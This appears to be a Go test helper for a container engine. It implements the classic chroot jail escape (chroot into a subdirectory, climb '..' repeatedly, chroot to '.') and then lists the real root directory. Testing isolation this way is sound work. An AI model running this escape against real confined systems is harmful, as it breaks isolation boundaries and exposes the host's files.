// Command chrootescape is the classic way out of a chroot jail, which
// the engine's tests run inside a container (built static, for a root
// without libc): chroot(2) into a subdirectory without entering it, so
// that the working directory is outside the root; climb ".." from there,
// which the kernel stops only on the way through the root; chroot(".")
// where the climb ended. It prints the names at "/" then, one a line,
// sorted, and writes nothing outside the directory it makes.
package main

import (
	"fmt"
	"os"
	"slices"
	"syscall"
)

func main() {
	if err := escape(); err != nil {
		fmt.Fprintln(os.Stderr, "chrootescape:", err)
		os.Exit(1)
	}
	names, err := readNames("/")
	if err != nil {
		fmt.Fprintln(os.Stderr, "chrootescape:", err)
		os.Exit(1)
	}
	for _, n := range names {
		fmt.Println(n)
	}
}

func escape() error {
	if err := os.MkdirAll("/tmp/jail", 0o755); err != nil {
		return err
	}
	if err := syscall.Chroot("/tmp/jail"); err != nil {
		return fmt.Errorf("chroot /tmp/jail: %w", err)
	}
	for range 64 {
		if err := syscall.Chdir(".."); err != nil {
			return fmt.Errorf("chdir ..: %w", err)
		}
	}
	if err := syscall.Chroot("."); err != nil {
		return fmt.Errorf("chroot .: %w", err)
	}
	return syscall.Chdir("/")
}

func readNames(dir string) ([]string, error) {
	f, err := os.Open(dir)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	names, err := f.Readdirnames(-1)
	slices.Sort(names)
	return names, err
}
